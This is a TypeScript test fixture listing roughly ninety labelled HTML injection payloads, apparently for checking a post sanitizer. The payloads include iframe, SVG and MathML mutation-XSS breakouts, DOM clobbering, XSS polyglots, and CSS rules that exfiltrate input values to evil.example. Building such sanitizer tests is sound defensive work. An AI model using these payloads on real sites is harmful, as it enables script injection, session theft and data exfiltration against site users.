/** Embedded documents: frames, SVG, MathML, styles and named elements. */
export const documentAttacks: Record<string, string> = {
  'an iframe with a javascript URL': '<iframe src="javascript:alert(1)"></iframe>',
  'an iframe with a srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an iframe with a srcdoc of entities': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'an iframe with a data URL': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'an iframe of another host': '<iframe src="https://evil.example/"></iframe>',
  'an iframe with onload': '<iframe onload="alert(1)"></iframe>',
  'an unclosed iframe': '<iframe src="https://evil.example/"><p>x</p>',
  'an iframe with a script inside': '<iframe><script>alert(1)</script></iframe>',
  'an iframe that ends early': '<iframe></iframe/><script>alert(1)</script>',
  'a video iframe with onload':
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  'a video iframe whose title breaks out': `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title='"><img src=x onerror=alert(1)>'></iframe>`,
  'a video iframe whose ID breaks out': `<iframe src='https://www.youtube.com/embed/dQw4w9WgXc"onload="alert(1)'></iframe>`,
  'a video iframe of a lookalike host':
    '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  'a video iframe with userinfo in its URL':
    '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  'a video iframe with markup inside':
    '<iframe src="https://youtu.be/dQw4w9WgXcQ"><img src=x onerror=alert(1)></iframe>',
  'a link that imitates a video': '<a class="facade" data-embed="https://evil.example/" href="/">x</a>',
  'a forged video placeholder':
    '<post-video data-embed="javascript:alert(1)" href="javascript:alert(1)" title="x"></post-video>',
  'an element named removed': '<removed onclick=alert(1)><script>alert(1)</script></removed>',
  'a bare URL that breaks out': '<p>https://youtu.be/dQw4w9WgXcQ"onclick="alert(1)</p>',
  'an object with a javascript URL': '<object data="javascript:alert(1)"></object>',
  'an object with a data URL': '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  'an object with fallback content': '<object data=x onerror=alert(1)><img src=x onerror=alert(1)></object>',
  'an embed with a javascript URL': '<embed src="javascript:alert(1)">',
  'an embed of another host': '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
  'an applet': '<applet code="x.class" codebase="https://evil.example/"></applet>',
  'a portal and a fenced frame':
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  'an svg with onload': '<svg onload=alert(1)>',
  'an svg with slashes for spaces': '<svg/onload=alert(1)//',
  'an svg with a script': '<svg><script>alert(1)</script></svg>',
  'an svg with a script of entities': '<svg><script>&#97;lert(1)</script></svg>',
  'an svg with a script of a data URL': '<svg><script href="data:,alert(1)"/></svg>',
  'an svg with an xlink:href': '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  'an svg animation with onbegin': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'an svg set that changes an href':
    '<svg><a id=x><set attributeName="href" to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  'an svg animation of an href':
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  'an svg use of a data URL':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
  'an svg foreignObject with an iframe': '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
  'an svg style with an import': '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  'an svg style that ends in an attribute': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'an svg title that ends in an attribute': '<svg><title><a title="</title><img src=x onerror=alert(1)>"></svg>',
  'an svg desc with CDATA': '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  'an svg with CDATA': '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  'mathml with an xlink:href': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'mathml with a maction':
    '<math><maction actiontype="statusline#https://e.example" xlink:href="javascript:alert(1)">x</maction></math>',
  'mathml that changes its namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mathml with nested forms':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'mathml with a textarea':
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  'mathml with an annotation-xml':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=alert(1)>"></annotation-xml></math>',
  'an svg paragraph that changes its namespace': '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  'mathml with a table': '<math><mi><table><mi><script>alert(1)</script></table></math>',
  'a noscript that ends in an attribute': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a noscript that another element ends': '<p><noscript></p><a title="</noscript><img src=x onerror=alert(1)>">',
  'a style in a select': '<select><style></select><img src=x onerror=alert(1)></style>',
  'a template in a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'declarative shadow DOM':
    '<div><template shadowrootmode="open"><script>alert(1)</script><img src=x onerror=alert(1)></template></div>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'an xmp that ends in an attribute': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a listing': '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  'a textarea that ends in an attribute': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a title that ends in an attribute': '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  'a noframes that ends in an attribute': '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  'a noembed that ends in an attribute': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'a style that hides markup': '<style><!--</style><script>alert(1)//--></script></style>',
  'a style with an import': '<style>@import url("https://evil.example/x.css")</style>',
  'a style that reads inputs': '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  'a style that hides the page': '<style>body{display:none}</style><p>x</p>',
  'a fixed overlay': '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
  'a fixed overlay by class': '<div class="fixed inset-0 z-50 payment-notice site-bar">x</div>',
  'a style attribute with a URL': '<p style="background:url(https://evil.example/a.gif)">x</p>',
  'a style attribute with a javascript URL':
    '<p style="background-image:url(javascript:alert(1));-moz-binding:url(//evil.example/x#y)">x</p>',
  'a style attribute with an expression': '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
  'a style attribute of entities': '<p style="&#98;ackground:url(https://evil.example/a.gif)">x</p>',
  'a style attribute of CSS escapes': '<p style="b\\61 ckground:\\75rl(https://evil.example/a.gif)">x</p>',
  'DOM clobbering of the page':
    '<a id="notices">x</a><img name="notices" id="location" src="/a.webp"><p id="__next">y</p>',
  'DOM clobbering of the document':
    '<img name="body" src="/a.webp"><form name="getElementById"><input name="parentNode"></form>',
  'DOM clobbering of the window': '<a id="alert"></a><a id="alert" name="toString" href="javascript:alert(1)">x</a>',
  'DOM clobbering of object prototypes': '<p id="__proto__" constructor="x" __proto__="y">x</p>',
  'end tags that close the post': '</div></div></main><div id="notices" data-waiting="success">x</div>',
  'a list that closes its container':
    '<ul><li><div><li></div><img src=x onerror=alert(1)></li></ul></div></div></main>',
  'a table that closes its container':
    '<table><tr><td><table><tr><td></table></div></table></div><img src=x onerror=alert(1)>',
  'headings that close their container': '<h2><div><h3><h4></h4></h3></div></h2></div><script>alert(1)</script>',
  'unclosed links': '<a href="https://evil.example/"><p><table><a href="javascript:alert(1)">x',
  'unclosed formatting elements': '<b><i><u><p><div><b onclick=alert(1)>x',
  'a forged share button': '<button data-share="" data-title="x" data-copied="<img src=x onerror=alert(1)>">x</button>',
  'a forged payment notice': '<div data-payment="success" data-waiting="success" role="alert" hidden>x</div>',
  'a thousand nested divs': `${'<div>'.repeat(1000)}<script>alert(1)</script>`,
  'a polyglot': `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e`,
  'another polyglot': `'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script>`,
  'an XSS locator': `';alert(String.fromCharCode(88,83,83))//';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
}
